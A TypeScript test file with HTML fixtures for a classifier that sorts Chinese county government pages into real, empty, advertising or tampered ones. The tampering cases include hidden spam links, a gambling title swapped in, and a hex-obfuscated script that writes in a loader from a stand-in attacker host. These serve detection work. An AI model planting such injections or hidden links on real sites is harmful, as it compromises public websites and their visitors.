/** Traps: pages that only look empty, sold or tampered with, and some that are. */
import { describe } from "vitest";
import { type Case, reads } from "./compare.ts";
import { crumb, planted } from "./parts.ts";
import { asp, boda, dede, hanweb, intensive, trs, trsList } from "./platforms.ts";

const prose = `<p>为深入贯彻落实上级部署，扎实推进全县重点工作，现将有关事项通知如下，请认真抓好贯彻落实。</p><p>一、提高认识。各乡镇、各部门要切实增强责任感和紧迫感，把工作抓细抓实。</p>`;
const notEmpty = { isColumn: false, empty: false };

const lookEmpty: Case[] = [
  {
    name: "the chart of an office, kept with the pictures of the template",
    html: trs(
      "机构设置_青岩县人民政府",
      `${crumb("政务公开", "机构设置")}<div class="con"><img src="/images/zzjg.jpg" width="900"></div>`,
    ),
    label: notEmpty,
  },
  {
    name: "a map drawn by a script at the end of the document",
    html: trs(
      "联系我们_青岩县人民政府",
      `${crumb("联系我们")}<div id="allmap" style="height:400px"></div>`,
    ).replace(
      "</body>",
      `<script src="https://api.map.baidu.com/api?v=3.0&ak=x"></script><script>var map=new BMap.Map("allmap");map.centerAndZoom(new BMap.Point(106.7,26.5),15);</script></body>`,
    ),
    label: notEmpty,
  },
  {
    name: "a player whose script stands at the end",
    html: intensive(
      "健康科普视频",
      `<ol class="breadcrumb"><li><a href="/wjj/">首页</a></li><li class="active">健康科普视频</li></ol><h2>健康科普视频</h2><div id="player"></div>`,
    ).replace("</body>", `<script src="/static/js/player.min.js"></script></body>`),
    label: notEmpty,
  },
  {
    name: "an article without comments",
    html: trs(
      "县政府召开常务会议",
      `${crumb("要闻动态")}<h1>县政府召开常务会议</h1><div>发布时间：2026-08-01 10:00　来源：县政府办</div><div class="TRS_Editor">${prose}</div><div class="pl"><h3>网友评论</h3><p>暂无评论</p></div>`,
    ),
    label: { kind: "article", ...notEmpty, published: "2026-08-01T10:00" },
  },
  {
    name: "an article of a picture without related texts",
    html: trs(
      "一图读懂就业补贴",
      `${crumb("政策解读")}<h1>一图读懂就业补贴</h1><div>发布时间：2026-08-02　来源：县人社局</div><div class="TRS_Editor"><p><img src="./W1.png"></p></div><div class="xg"><h3>相关链接</h3><p>暂无相关信息</p></div>`,
    ),
    label: { kind: "article", ...notEmpty, published: "2026-08-02" },
  },
  {
    name: "a call for opinions without an answer to them",
    html: trs(
      "关于停车管理办法的意见征集",
      `${crumb("互动交流", "意见征集")}<h2>关于停车管理办法的意见征集</h2><table><tr><td>征集单位</td><td>县城管局</td></tr><tr><td>征集时间</td><td>2026-03-01至2026-03-31</td></tr><tr><td>结果反馈</td><td>暂无反馈结果</td></tr></table>`,
    ),
    label: notEmpty,
  },
  {
    name: "a letter without an answer yet",
    html: trs(
      "信件详情_青岩县人民政府",
      `${crumb("互动交流", "县长信箱", "信件详情")}<h3>路灯不亮</h3><p>来信时间：2026-11-11</p><p>信件内容：人民路路灯三盏不亮。</p><p>回复内容：暂无回复</p>`,
    ),
    label: {
      kind: "message",
      isColumn: false,
      empty: false,
      messages: [["路灯不亮", "2026-11-11", null, null]],
    },
  },
  {
    name: "a guide whose fee rests on nothing",
    html: intensive(
      "护士执业注册",
      `<ol class="breadcrumb"><li><a href="/wjj/">首页</a></li><li class="active">办事指南</li></ol><h1>护士执业注册</h1><table><tr><th>办理时限</th><td>10个工作日</td></tr><tr><th>收费依据</th><td>暂无</td></tr><tr><th>中介服务</th><td>无</td></tr><tr><th>申请材料</th><td>申请表、身份证</td></tr></table>`,
    ),
    label: notEmpty,
  },
  {
    name: "rows, and the words of none in a box that waits hidden",
    html: trs(
      "部门动态_青岩县人民政府",
      trsList(
        "首页>要闻动态>部门动态",
        `<ul class="list"><li><a href="./t1.html">县司法局开展普法宣传活动</a><b>2026-09-09</b></li></ul><div class="none" style="display:none">暂无数据</div>`,
      ),
    ),
    label: { kind: "listing", isColumn: true, items: 1, empty: false, newest: "2026-09-09" },
  },
  {
    name: "an interview announced, with 敬请期待, above those that were",
    html: trs(
      "在线访谈_青岩县人民政府",
      trsList(
        "首页>互动交流>在线访谈",
        `<div class="yg"><p>访谈预告：县医保局局长做客访谈，敬请期待！</p></div><ul class="list"><li><a href="./f1.html">县教育局局长谈义务教育招生</a><b>2026-06-09</b></li><li><a href="./f2.html">县交通局局长谈农村公路建设</a><b>2026-05-09</b></li></ul>`,
      ),
    ),
    label: { kind: "listing", isColumn: true, items: 2, empty: false, newest: "2026-06-09" },
  },
  {
    name: "rows written by a file of the column",
    html: hanweb(
      "人事信息",
      `<div class="bt-pos">当前位置：<a href='/index.html'>首页</a> > 人事信息</div><table width="100%"><tr><td><script src="/script/list_44.js"></script></td></tr></table>`,
    ),
    url: "http://www.qingyan.gov.cn/col/col44/index.html",
    label: { empty: false },
  },
  {
    name: "short names of places as links below a trail",
    html: trs(
      "乡镇概况_青岩县人民政府",
      `${crumb("走进青岩", "乡镇概况")}<div class="xz">${["城关镇", "马铃乡", "高坡乡", "黔陶乡", "石板镇"].map((n, i) => `<a href="./x${i}/">${n}</a>`).join("")}</div>`,
    ),
    label: notEmpty,
  },
  {
    name: "a film of 2004",
    html: asp(
      "宣传片",
      `<table width="760" align="center"><tr><td>您现在的位置：<a href="Index.asp">首页</a> → 宣传片</td></tr><tr><td><embed src="v.wmv" width="400" height="300"></td></tr></table>`,
    ),
    label: notEmpty,
  },
];

const areEmpty: Case[] = [
  {
    name: "a note of an editor's in the place of rows",
    html: boda(
      "农技推广",
      `<div class="dqwz">您的位置: <a href="../index.htm">首页</a> > 农技推广</div><div class="nr"><p>该栏目内容正在收集整理中，敬请期待。</p></div>`,
    ),
    label: { kind: "listing", isColumn: true, empty: true, emptyWhy: "placeholder", items: 0 },
  },
  {
    name: "heads of a catalogue and a row that spans them: 暂无数据",
    html: trs(
      "规范性文件_青岩县人民政府",
      `${crumb("政务公开", "规范性文件")}<form><input name="t" placeholder="标题"><input name="w" placeholder="文号"><button>查询</button></form><table><thead><tr><th>索引号</th><th>标题</th><th>文号</th><th>发布日期</th></tr></thead><tbody><tr><td colspan="4">暂无数据</td></tr></tbody></table>`,
    ),
    label: { kind: "listing", isColumn: true, empty: true, emptyWhy: "notice", items: 0 },
  },
  {
    name: "Layui's grey words of none",
    html: intensive(
      "通知公告",
      `<span class="layui-breadcrumb"><a href="/wjj/">首页</a><a><cite>通知公告</cite></a></span><div class="layui-card"><div class="layui-card-header">通知公告</div><div class="layui-none">无数据</div></div>`,
    ),
    label: { isColumn: true, empty: true, emptyWhy: "notice" },
  },
  {
    name: "an old guest book without an entry",
    html: asp(
      "留言板",
      `<table width="760" align="center"><tr><td>您现在的位置：<a href="Index.asp">首页</a> → 留言板</td></tr><tr><td align="center">目前还没有留言！</td></tr><tr><td>共有 0 条留言</td></tr></table>`,
    ),
    label: { isColumn: true, empty: true, emptyWhy: "notice", messages: [] },
  },
  {
    name: "a phone's column",
    html: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>政策解读</title></head><body><div class="m-top"><a href="javascript:history.go(-1)">返回</a><h1>政策解读</h1></div><ul class="m-list"></ul><div class="nomore">暂无更多内容</div></body></html>`,
    url: "http://m.qingyan.gov.cn/zcjd/",
    label: { isColumn: true, empty: true, emptyWhy: "notice" },
  },
  {
    name: "English: no information",
    html: `<html><head><meta charset="utf-8"><title>Investment</title></head><body><div class="nav"><a href="/en/">Home</a><a href="/en/news/">News</a><a href="/en/invest/">Investment</a></div><div class="pos">Home &gt; Investment</div><div class="list"><p>No information available.</p></div></body></html>`,
    url: "http://www.qingyan.gov.cn/en/invest/",
    label: { isColumn: true, empty: true, emptyWhy: "notice" },
  },
  {
    name: "heading as a picture, list empty, counted by its pager",
    html: dede(
      "公示公告",
      `<div class="place"><strong>当前位置:</strong> <a href='/'>主页</a> > 公示公告 > </div><img src="/templets/default/images/t_gs.gif"><ul class="d1"></ul><div class="dede_pages"><ul class="pagelist"><li><span class="pageinfo">共 <strong>0</strong>页<strong>0</strong>条记录</span></li></ul></div>`,
    ),
    label: { kind: "listing", isColumn: true, empty: true, emptyWhy: "notice" },
  },
];

const rows = `<ul class="list"><li><a href="./202610/t20261001_1.html">关于开展秋季绿化工作的通知</a><b>2026-10-01</b></li></ul>`;
const withList = (more: string): string =>
  trs("通知公告_青岩县人民政府", `${trsList("首页>政务公开>通知公告", rows)}${more}`);
const honest = { ads: [], tampering: [] };

const honestOnes: Case[] = [
  {
    name: "floats of the shop for poor counties, of an app against fraud and of a bank's offer to pay digitally",
    html: withList(
      `<div id="floatdiv" style="position:fixed"><a href="https://www.fupin832.com/"><img src="/i/832.png" alt="脱贫地区农副产品网络销售平台"></a></div><div class="float1" style="position:fixed"><a href="https://fzapp.example.com/"><img src="/i/fz.png" alt="国家反诈中心APP"></a></div><div class="float2" style="position:fixed"><a href="http://szrmb.example.com/"><img src="/i/rmb.png" alt="数字人民币"></a></div>`,
    ),
    label: honest,
  },
  {
    name: "investment to be had, with offices to call",
    html: trs(
      "青岩县招商引资优惠政策",
      `${crumb("投资青岩", "招商政策")}<h1>青岩县招商引资优惠政策</h1><div>发布时间：2026-08-01</div><div class="TRS_Editor"><p>入驻企业享受租金优惠，标准厂房火热招商中，欢迎客商前来考察。</p><p>招商热线：0851-81234567，联系人：县投资促进局。</p></div>`,
    ),
    label: { kind: "article", ads: [] },
  },
  {
    name: "hotels and inns named in a column of tourism",
    html: trs(
      "吃住行_青岩县人民政府",
      trsList(
        "首页>走进青岩>吃住行",
        `<ul class="list">${["青岩大酒店", "古镇度假村", "苗家农家乐特色餐饮", "古镇旅行社联系方式"].map((t, i) => `<li><a href="./j${i}.html">${t}</a><b>2024-0${i + 1}-01</b></li>`).join("")}</ul>`,
      ),
    ),
    label: { isColumn: true, items: 4, ...honest },
  },
  {
    name: "scripts of maps, films, counters and readers from their own hosts",
    html: withList(
      `<script src="https://webapi.amap.com/maps?v=2.0"></script><script src="https://res.wx.qq.com/open/js/jweixin-1.6.0.js"></script><script src="https://cdn.bootcdn.net/ajax/libs/jquery/1.12.4/jquery.min.js"></script><script>var _hmt=_hmt||[];(function(){var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?x";document.body.appendChild(hm)})();</script><iframe src="https://v.qq.com/txp/iframe/player.html?vid=x" width="400" height="300"></iframe><script src="https://service.kaipuyun.cn/wza/reader.js"></script>`,
    ),
    label: honest,
  },
  {
    name: "a way past the menu for readers, off the screen",
    html: withList(
      `<a href="#main" style="position:absolute;left:-9999px">跳到主要内容</a><div style="display:none"><a href="http://www.51.la/?1">我要啦</a></div><div style="display:none"><a href="http://www.builder-example.com">某某科技</a></div>`,
    ),
    label: honest,
  },
  {
    name: "hidden tabs of links to ministries, media and shops of books",
    html: withList(
      `<div class="tab-c" style="display:none">${["gov.cn", "mof.gov.cn", "people.com.cn", "xinhuanet.com", "cctv.com", "gmw.cn", "china.com.cn"].map((h) => `<a href="http://www.${h}">${h}</a>`).join("")}</div>`,
    ),
    label: honest,
  },
  {
    name: "police and sports in the news",
    html: trs(
      "要闻_青岩县人民政府",
      trsList(
        "首页>要闻动态>要闻",
        `<ul class="list">${["我县警方捣毁一网络赌博窝点", "全县足球联赛开赛", "体育彩票公益金使用情况公告", "关于严厉打击跨境赌博的通告", "县队夺得百家姓文化节舞龙冠军"].map((t, i) => `<li><a href="./y${i}.html">${t}</a><b>2026-0${i + 1}-01</b></li>`).join("")}</ul>`,
      ),
    ),
    label: { isColumn: true, items: 5, ...honest },
  },
  {
    name: "public space to let, told in a notice",
    html: trs(
      "公交车站台广告位招租公告",
      `${crumb("公告公示")}<h1>公交车站台广告位招租公告</h1><div>发布时间：2026-08-01　来源：县国资中心</div><div class="TRS_Editor"><p>经县政府同意，现对城区公交站台广告位公开招租，欢迎符合条件的单位报名。</p><p>广告位招租联系电话：0851-81234567</p></div>`,
    ),
    label: { kind: "article", ads: [], tampering: [] },
  },
];

const sold: Case[] = [
  {
    name: "links behind which a script hides their box",
    html: withList(
      `<div id="nj9">${planted}</div><script>document.getElementById("nj9").style.display="none";</script>`,
    ),
    label: { tampering: ["hidden-links"] },
  },
  {
    name: "links above the screen by a class",
    html: withList(`<style>.zz{position:absolute;top:-9999px}</style><div class="zz">${planted}</div>`),
    label: { tampering: ["hidden-links"] },
  },
  {
    name: "links in an invisible underline, one by one",
    html: withList(`<u style="visibility:hidden">${planted}</u>`),
    label: { tampering: ["hidden-links"] },
  },
  {
    name: "title of a house of gambling above an honest list",
    html: withList("").replace(/<title>[^<]*/, "<title>亚博体育官网-亚博app下载-亚博体育登录入口"),
    label: { tampering: ["replaced-title"] },
  },
  {
    name: "script in hexadecimal that writes a stranger's script",
    html: withList(
      `<script>window["\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74"]["\\x77\\x72\\x69\\x74\\x65"]("\\x3c\\x73\\x63\\x72\\x69\\x70\\x74 \\x73\\x72\\x63\\x3d\\x22\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x78\\x2e\\x65\\x76\\x69\\x6c\\x2d\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2e\\x74\\x6f\\x70\\x2f\\x61\\x2e\\x6a\\x73\\x22\\x3e\\x3c\\x2f\\x73\\x63\\x72\\x69\\x70\\x74\\x3e")</script>`,
    ),
    label: { tampering: ["foreign-script"] },
  },
  {
    name: "link of an operation among the friends",
    html: asp(
      "友情链接",
      `<table width="760" align="center"><tr><td>您现在的位置：<a href="Index.asp">首页</a> → 友情链接</td></tr><tr><td><a href="http://www.gz.gov.cn">广州市政府</a> <a href="http://www.yy-example.com">无痛人流多少钱</a> <a href="http://www.zz-example.net">代开发票</a></td></tr></table>`,
    ),
    label: { isColumn: false, ads: ["text-link", "text-link"] },
  },
  {
    name: "couplets of flash that lead to a dealer",
    html: withList(
      `<div id="duilian1" style="position:absolute;left:5px;top:80px"><a href="http://www.car-example.com"><embed src="/ad/car.swf"></a><p>4S店购车优惠热线</p></div>`,
    ),
    label: { ads: ["floating"] },
  },
];

describe("pages that look empty", () => reads(lookEmpty));
describe("columns that are", () => reads(areEmpty));
describe("honest pages", () => reads(honestOnes));
describe("sold and planted", () => reads(sold));
